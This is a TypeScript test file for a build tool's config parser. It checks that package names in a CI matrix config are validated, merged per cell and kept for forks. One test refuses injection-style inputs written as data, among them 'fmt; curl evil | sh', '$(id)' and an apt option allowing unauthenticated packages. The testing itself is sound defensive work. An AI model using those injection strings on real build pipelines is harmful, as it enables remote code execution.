/**
 * `packages:` in the config: names checked for shape at their position, the
 * top level's and include entries' merged per cell, a fork's kept. Pure.
 */
import { describe, expect, it } from "vitest";
import { parseConfig } from "../../src/config/parse.ts";
import { formatProblem } from "../../src/config/problems.ts";
import { forkConfig } from "../../src/config/trust.ts";
import { cellsOf, problemsOf, yaml } from "./helpers.ts";

const header = ["version: 1", "matrix:", "  compiler: [gcc@12]"];

/** `FILE:LINE:COL: error: FIELD: MESSAGE` of a config with these lines after the header. */
function errors(...lines: string[]): string[] {
  return problemsOf(yaml(...header, ...lines)).map(formatProblem);
}

const SHAPE =
  "is not a package name: write a Debian package name such as libfmt-dev (lower case letters, digits, + - .), optionally with =VERSION";

describe("package names", () => {
  it("takes Debian's names, with or without a version", () => {
    const [cell] = cellsOf(
      yaml(
        ...header,
        "packages: [libfmt-dev, g++-12, libstdc++-12-dev, libboost1.74-dev, 'libssl-dev=3.0.17-1~deb12u2']",
      ),
    );
    expect(cell?.packages).toEqual([
      "g++-12",
      "libboost1.74-dev",
      "libfmt-dev",
      "libssl-dev=3.0.17-1~deb12u2",
      "libstdc++-12-dev",
    ]);
  });

  it.each([
    ["an apt option", "-o=APT::Get::AllowUnauthenticated=1"],
    ["a shell command", "fmt; curl evil | sh"],
    ["a substitution", "$(id)"],
    ["apt's remove suffix", "cmake-"],
    ["upper case", "LibFmt-dev"],
    ["a glob", "lib*-dev"],
    ["a release", "libfmt-dev/bookworm-backports"],
    ["an architecture", "libfmt-dev:i386"],
    ["a version that is not one", "libfmt-dev=latest"],
    ["a space", "libfmt-dev libssl-dev"],
  ])("refuses %s at its position", (_what, name) => {
    expect(errors(`packages: [ok-dev, ${JSON.stringify(name)}]`)).toEqual([
      `.heimdall-build.yml:4:20: error: packages[1]: '${name}' ${SHAPE}`,
    ]);
  });

  it("refuses a name listed twice, a long name and too many names", () => {
    expect(errors("packages: [libfmt-dev, libfmt-dev]")).toEqual([
      ".heimdall-build.yml:4:24: error: packages[1]: package 'libfmt-dev' listed twice",
    ]);
    expect(errors(`packages: [${"a".repeat(129)}]`)).toEqual([
      ".heimdall-build.yml:4:12: error: packages[0]: must be at most 128 characters; got 129",
    ]);
    const many = Array.from({ length: 65 }, (_, i) => `p${i}`).join(", ");
    expect(errors(`packages: [${many}]`)).toEqual([
      ".heimdall-build.yml:4:11: error: packages: must be at most 64 items; got 65",
    ]);
  });

  it("checks an include entry's names the same way, at their position", () => {
    expect(
      problemsOf(yaml(...header, "  include:", "    - compiler: gcc@12", "      packages: [ok-dev, 'bad;name']")).map(
        formatProblem,
      ),
    ).toEqual([`.heimdall-build.yml:6:26: error: matrix.include[0].packages[1]: 'bad;name' ${SHAPE}`]);
  });
});

describe("a cell's packages", () => {
  it("are the top level's and its include entries', each once, sorted; other cells keep the top level's", () => {
    const cells = cellsOf(
      yaml(
        "version: 1",
        "matrix:",
        "  compiler: [gcc@12, clang@16]",
        "  build_type: [Debug, Release]",
        "  include:",
        "    - compiler: clang@16",
        "      packages: [libfmt-dev, zlib1g-dev]",
        "    - build_type: Debug",
        "      packages: [libgtest-dev, zlib1g-dev]",
        "packages: [zlib1g-dev, libssl-dev]",
      ),
    );
    expect(Object.fromEntries(cells.map((c) => [c.id, c.packages]))).toEqual({
      "linux-gcc-12-cxx17-debug": ["libgtest-dev", "libssl-dev", "zlib1g-dev"],
      "linux-gcc-12-cxx17-release": ["libssl-dev", "zlib1g-dev"],
      "linux-clang-16-cxx17-debug": ["libfmt-dev", "libgtest-dev", "libssl-dev", "zlib1g-dev"],
      "linux-clang-16-cxx17-release": ["libfmt-dev", "libssl-dev", "zlib1g-dev"],
    });
  });

  it("are in a cell an include entry makes, and none without the key", () => {
    const cells = cellsOf(yaml(...header, "  include:", "    - compiler: gcc@13", "      packages: [libfmt-dev]"));
    expect(cells.map((c) => [c.id, c.packages])).toEqual([
      ["linux-gcc-12-cxx17-release", []],
      ["linux-gcc-13-cxx17-release", ["libfmt-dev"]],
    ]);
  });

  it("are none in a cell without an image (not Linux): nothing there installs them", () => {
    const cells = cellsOf(
      yaml(
        "version: 1",
        "matrix:",
        "  platform: [linux, windows]",
        "  compiler: [msvc@2022, gcc@12]",
        "  exclude:",
        "    - {platform: linux, compiler: msvc@2022}",
        "    - {platform: windows, compiler: gcc@12}",
        "packages: [libfmt-dev]",
      ),
    );
    expect(cells.map((c) => [c.platform, c.packages])).toEqual([
      ["linux", ["libfmt-dev"]],
      ["windows", []],
    ]);
  });

  it("are at most 64 once merged", () => {
    const names = (from: number) => Array.from({ length: 40 }, (_, i) => `p${from + i}`).join(", ");
    const problems = problemsOf(
      yaml(
        ...header,
        "  include:",
        "    - compiler: gcc@12",
        `      packages: [${names(0)}]`,
        `packages: [${names(40)}]`,
      ),
    ).map(formatProblem);
    expect(problems).toEqual([
      ".heimdall-build.yml:3:3: error: matrix: 'linux / gcc-12 / c++17 / Release' gets 80 packages (top level and include entries); the limit is 64",
    ]);
  });
});

describe("a fork's packages", () => {
  it("are kept: they say what its code needs, installed from the default branch's image's archive", () => {
    const head = parseConfig(
      yaml(
        ...header,
        "  include:",
        "    - compiler: gcc@12",
        "      packages: [libfmt-dev]",
        "packages: [zlib1g-dev]",
        "image: forker/any:1",
      ),
    );
    if (!head.ok) throw new Error("valid");
    const fork = forkConfig(head.config, null);
    expect(fork.cells.map((c) => [c.image, c.packages])).toEqual([
      ["heimdall-build/gcc-12:bookworm", ["libfmt-dev", "zlib1g-dev"]],
    ]);
    expect(fork.overridden).toEqual(["image"]);
  });
});
